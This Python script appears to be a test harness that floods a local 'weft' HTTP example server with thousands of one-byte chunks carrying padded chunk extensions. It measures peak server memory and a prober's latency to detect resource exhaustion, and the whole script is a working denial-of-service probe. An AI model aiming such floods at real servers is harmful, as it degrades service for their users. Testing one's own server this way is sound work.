#!/usr/bin/env python3
"""Chunk-extension amplification against a weft HTTP server (weft_example_http_server).

    chunk_extensions.py PORT SERVER_PID CHUNKS EXTENSION_BYTES

Sends POST /echo with CHUNKS one-byte chunks, each padded with an EXTENSION_BYTES-byte chunk
extension (0: none), while a prober GETs / on another connection every 5 ms. Prints what
went on the wire, the server's peak RSS (VmHWM of SERVER_PID) before and after, the answer
to the upload, and the prober's median and worst latency. Loopback only.
"""
import socket
import statistics
import sys
import threading
import time

port, pid, chunks, ext = (int(a) for a in sys.argv[1:5])


def status_kib(field):
    with open(f'/proc/{pid}/status') as f:
        for line in f:
            if line.startswith(field):
                return int(line.split()[1])
    return -1


stop = False
latencies = []


def prober():
    s = socket.create_connection(('127.0.0.1', port))
    while not stop:
        start = time.perf_counter()
        s.sendall(b'GET / HTTP/1.1\r\nHost: t\r\n\r\n')
        got = b''
        # The example server answers "hello from weft\n" with a Content-Length.
        while not got.endswith(b'hello from weft\n'):
            data = s.recv(65536)
            if not data:
                return
            got += data
        latencies.append((time.perf_counter() - start) * 1000)
        time.sleep(0.005)


peak_before = status_kib('VmHWM')
thread = threading.Thread(target=prober)
thread.start()
time.sleep(0.1)
attacker = socket.create_connection(('127.0.0.1', port))
attacker.sendall(b'POST /echo HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\n')
chunk = (b'1;' + b'a' * (ext - 2) if ext > 0 else b'1') + b'\r\nX\r\n'
started = time.perf_counter()
sent = 0
error = None
try:
    for _ in range(0, chunks, 64):
        attacker.sendall(chunk * 64)
        sent += 64
    attacker.sendall(b'0\r\n\r\n')
except OSError as e:
    error = e
attacker.settimeout(10)
try:
    answer = attacker.recv(200)
except OSError as e:
    answer = repr(e).encode()
peak_after = status_kib('VmHWM')
stop = True
thread.join()
print(f'{sent} chunks sent ({ext} B extensions, {sent * len(chunk) / 1e6:.1f} MB on the wire) '
      f'in {time.perf_counter() - started:.2f} s; send error: {error}')
print(f'server peak RSS: {peak_before // 1024} MiB before, {peak_after // 1024} MiB after')
print(f'answer: {answer[:40]!r}')
if latencies:
    print(f'prober: {len(latencies)} GETs, median {statistics.median(latencies):.2f} ms, '
          f'max {max(latencies):.1f} ms')
